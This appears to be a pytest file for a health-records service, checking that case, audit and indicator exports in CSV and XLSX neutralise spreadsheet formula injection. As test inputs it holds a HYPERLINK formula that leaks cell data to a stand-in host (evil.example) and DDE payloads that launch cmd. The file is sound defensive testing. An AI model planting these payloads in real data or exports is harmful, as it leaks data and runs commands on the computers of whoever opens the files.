"""Spreadsheet exports cannot carry a live formula: strings that senders, reviewers or
anonymous callers chose are planted through the real paths (a FHIR record, a reviewer's
action, a sign-in attempt) and every export is opened as a spreadsheet program would."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import httpx
import numpy as np
import openpyxl
import pytest
import xlsxwriter
from sqlalchemy import select

from mch_service.app import Services
from mch_service.cases.models import CaseRecord
from mch_service.domain import models as domain_models
from mch_service.safe_cells import (
    FORMULA_STARTS,
    XLSX_OPTIONS,
    csv_cell,
    csv_row,
    csv_writer,
    xlsx_cell,
)
from tests.auth.test_accounts import add_user, bearer, token_for
from tests.conftest import SenderKey
from tests.domain.fixtures import bundle, colour, entry, obs, patient, uid, visit
from tests.domain.test_pregnancy_record import post
from tests.indicators.test_indicator_service import _valid_rid, twins_without_prenatal_care

HYPERLINK = '=HYPERLINK("http://evil.example/?"&D2,"click")'
DDE = "=cmd|'/C calc'!A0"
AT = "@SUM(1+1)*cmd|'/C calc'!A0"


def _red(http: httpx.Client, sender: SenderKey, street: str, name: str, rid: str) -> None:
    p = uid()
    post(
        http,
        sender,
        bundle(
            entry(patient("hosp-a", rid[-6:], rid=rid, street=street, name=name), p),
            entry(obs(p, "8665-2", "2025-01-05", valueDateTime="2025-01-01")),
            entry(visit(p, "2025-01-05", first=True)),
            entry(colour(p, "2025-03-01", "red")),
        ),
    )


def _xlsx_cells(content: bytes) -> list[Any]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [c for ws in book.worksheets for row in ws.iter_rows() for c in row]


def _csv_cells(content: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
    return [cell for row in rows for cell in row]


def _assert_no_formula(cells: list[Any]) -> None:
    assert cells
    assert [c.coordinate for c in cells if c.data_type == "f"] == []


def _assert_all_text(cells: list[Any]) -> None:
    # the standard: every export writes cells as text (a blank cell holds nothing)
    assert cells
    assert [
        (c.coordinate, c.data_type) for c in cells if c.value is not None and c.data_type != "s"
    ] == []


def _assert_neutral(cells: list[str]) -> None:
    # what a spreadsheet program would take as a formula: nothing
    assert [c for c in cells if c.startswith(FORMULA_STARTS)] == []


def test_case_exports_write_reviewer_and_sender_text_as_text(
    http: httpx.Client, services: Services, sender: SenderKey
) -> None:
    # a sender's name field (masked in lists: its first character stays) ...
    _red(http, sender, "330102001", "=1+2 王", _valid_rid("33010219900101111"))
    with services.db.reading() as session:
        case_id = session.scalars(select(CaseRecord.pregnancy_id)).one()
    add_user(services, "admin1", "admin")
    admin = bearer(token_for(http, "admin1"))
    version = http.get(f"/api/v1/cases/{case_id}", headers=admin).json()["case"]["version"]
    # ... a reviewer-controlled field is no longer free text: an assignee is a colleague whose
    # jurisdiction covers her (issue 16), anything else is refused naming the field
    r = http.post(
        f"/api/v1/cases/{case_id}/assign", headers=admin, json={"version": version, "assignee": DDE}
    )
    assert r.status_code == 400, r.text
    assert r.json()["error"]["issues"][0]["expression"] == "assignee"

    xlsx = http.get("/api/v1/cases/export.xlsx", headers=admin)
    assert xlsx.status_code == 200
    cells = _xlsx_cells(xlsx.content)
    _assert_no_formula(cells)
    _assert_all_text(cells)
    values = [c.value for c in cells]
    assert "=1+2 王" in values  # the call sheet's full name, shown exactly as sent, as text
    assert any(isinstance(v, str) and v.startswith("=*") for v in values)

    exported = http.get("/api/v1/cases/export.csv", headers=admin)
    cells_csv = _csv_cells(exported.content)
    _assert_neutral(cells_csv)
    assert "'=1+2 王" in cells_csv
    assert any(c.startswith("'=*") for c in cells_csv)


def test_audit_csv_neutralises_an_anonymous_username(
    http: httpx.Client, services: Services
) -> None:
    for name in (DDE, AT, "+1-2", "-2+3", "\t=1", "\r=1"):
        r = http.post("/api/v1/token", json={"username": name, "password": "whatever-123"})
        assert r.status_code in (400, 401)
    add_user(services, "admin1", "admin")
    admin = bearer(token_for(http, "admin1"))
    exported = http.get("/api/v1/audit.csv?action=auth.sign_in", headers=admin)
    assert exported.status_code == 200
    cells = _csv_cells(exported.content)
    _assert_neutral(cells)
    assert "'" + DDE in cells
    assert "'" + AT in cells


def test_a_hostile_street_code_from_a_sender_is_not_trusted(
    http: httpx.Client, services: Services, sender: SenderKey
) -> None:
    """Valid FHIR, so the record is stored; the code is not a street: it stays out of the
    attribution (lists, exports, indicators) and is flagged for data quality."""
    _red(http, sender, HYPERLINK, "王芳", _valid_rid("33010219910202222"))
    with services.db.reading() as session:
        assert session.scalars(select(CaseRecord.street)).one() is None
        assert session.scalars(select(domain_models.PatientRecord.street)).one() is None
        rules = list(session.scalars(select(domain_models.DataQualityIssue.rule)))
        messages = " ".join(session.scalars(select(domain_models.DataQualityIssue.message)))
    assert "street_unknown" in rules
    assert "HYPERLINK" not in messages
    add_user(services, "admin1", "admin")
    admin = bearer(token_for(http, "admin1"))
    assert http.post("/api/v1/jobs/indicators/run", headers=admin).status_code == 200
    for path in ("/api/v1/cases/export.csv", "/api/v1/indicators/export.csv?period=2025"):
        content = http.get(path, headers=admin).content.decode("utf-8-sig")
        assert "HYPERLINK" not in content, path
    xlsx = http.get("/api/v1/indicators/export.xlsx?period=2025", headers=admin)
    assert xlsx.status_code == 200
    _assert_no_formula(_xlsx_cells(xlsx.content))
    _assert_all_text(_xlsx_cells(xlsx.content))


def test_indicator_exports_hold_only_text_numbers_and_dates(
    http: httpx.Client, services: Services, sender: SenderKey
) -> None:
    assert csv_cell("-1+2") == "'-1+2"
    assert csv_cell(-3) == -3  # a number stays a number: it is never a formula
    twins_without_prenatal_care(http, services)  # street 330102002, delivered 2025-08
    add_user(services, "admin1", "admin")
    admin = bearer(token_for(http, "admin1"))
    run = http.post("/api/v1/jobs/indicators/run", headers=admin)
    assert run.json()["status"] == "succeeded", run.text
    cells = _csv_cells(
        http.get("/api/v1/indicators/export.csv?period=2025-08", headers=admin).content
    )
    _assert_neutral(cells)
    assert "330102002" in cells
    xlsx = http.get("/api/v1/indicators/export.xlsx?period=2025-08", headers=admin)
    cells_x = _xlsx_cells(xlsx.content)
    _assert_no_formula(cells_x)
    assert "330102002" in [c.value for c in cells_x]
    _assert_all_text(cells_x)
    # the numbers and dates of the district rows: the same text as in the CSV
    csv_rows = list(
        csv.reader(
            io.StringIO(
                http.get(
                    "/api/v1/indicators/export.csv?period=2025-08", headers=admin
                ).content.decode("utf-8-sig")
            )
        )
    )
    head = csv_rows[0]
    by_csv = {
        r[0]: (
            r[head.index("开始日期")],
            r[head.index("分子")],
            r[head.index("分母")],
            r[head.index("数值（未修约）")],  # 数值 is rounded to two decimals
        )
        for r in csv_rows[1:]
        if r[head.index("地区")] == "district" and r[head.index("机构")] == "all"
    }
    district = openpyxl.load_workbook(io.BytesIO(xlsx.content))["全区"]
    rows = list(district.iter_rows(values_only=True))
    h = list(rows[0])
    by_xlsx = {
        r[0]: (
            r[h.index("开始日期")],
            r[h.index("分子")],
            r[h.index("分母")],
            r[h.index("数值")] or "",
        )
        for r in rows[1:]
    }
    assert by_xlsx == by_csv
    assert by_xlsx["facility_delivery_rate"][0] == "2025-08-01"


@pytest.mark.parametrize("bad", [HYPERLINK, "=1+2", "+1", "-1", "@A1", "a b", "", "x" * 33, "街道"])
def test_staff_street_codes_are_validated(bad: str, http: httpx.Client, services: Services) -> None:
    add_user(services, "admin1", "admin")
    admin = bearer(token_for(http, "admin1"))
    r = http.post(
        "/api/v1/users",
        headers=admin,
        json={
            "username": "rev-x",
            "role": "reviewer",
            "password": "A-long-enough-passw0rd!",
            "streets": [bad],
        },
    )
    assert r.status_code == 400, r.text
    assert bad not in r.text or not bad
    listed = http.get("/api/v1/cases", params={"street": bad}, headers=admin)
    assert listed.status_code == (400 if bad else 200), listed.text
    if bad:
        for path in ("/api/v1/indicators", "/api/v1/indicators/warnings"):
            r = http.get(path, params={"period": "2025-08", "area": bad}, headers=admin)
            assert r.status_code == 400, (path, r.text)


def test_xlsx_cells_are_text_equal_to_the_csv_text(tmp_path: Path) -> None:
    """Numbers, dates and timestamps go into an XLSX as text cells, the same text the CSV
    holds (integers without ``.0``, floats without an exponent, timestamps with offset)."""
    values: list[Any] = [
        7,
        np.int64(12),
        33.333333333333336,
        1e-05,
        -2.5,
        date(2025, 8, 1),
        datetime(2025, 8, 1, 9, 30, tzinfo=timezone(timedelta(hours=8))),
        True,
        None,
    ]
    path = tmp_path / "cells.xlsx"
    book = xlsxwriter.Workbook(path, XLSX_OPTIONS)
    sheet = book.add_worksheet()
    for col, value in enumerate(values):
        xlsx_cell(sheet, 0, col, value)
    book.close()
    written = openpyxl.load_workbook(path).active
    cells = [written.cell(row=1, column=col + 1) for col in range(len(values))]
    _assert_all_text(cells)
    texts = [c.value for c in cells]
    assert texts == [
        "7",
        "12",
        "33.333333333333336",
        "0.00001",
        "-2.5",
        "2025-08-01",
        "2025-08-01T09:30:00+08:00",
        "true",
        None,
    ]
    buffer = io.StringIO()
    csv_writer(buffer).writerow(csv_row(values))
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == [t or "" for t in texts]
